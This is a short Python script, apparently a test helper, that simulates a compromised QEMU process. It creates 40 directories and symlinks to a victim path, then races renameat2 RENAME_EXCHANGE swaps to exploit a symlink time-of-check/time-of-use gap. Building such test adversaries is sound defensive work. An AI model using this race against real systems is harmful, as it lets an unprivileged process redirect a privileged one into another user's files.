"""Plays a compromised QEMU: as QEMU's user, swaps folders in its own folder for links to another's, as fast as it can.

usage: swap_links.py FOLDER VICTIM
"""

import ctypes
import os
import select
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
COUNT = 40
libc = ctypes.CDLL(None, use_errno=True)


def main():
    folder, victim = sys.argv[1:]
    pairs = []
    for number in range(COUNT):
        real, link = f"{folder}/real{number}", f"{folder}/link{number}"
        os.mkdir(real)
        os.symlink(victim, link)
        pairs.append((real.encode(), link.encode()))
    print("ready", flush=True)
    while True:
        for _ in range(200):
            for real, link in pairs:
                libc.renameat2(AT_FDCWD, real, AT_FDCWD, link, RENAME_EXCHANGE)
        if select.select([sys.stdin], [], [], 0)[0]:
            return


main()
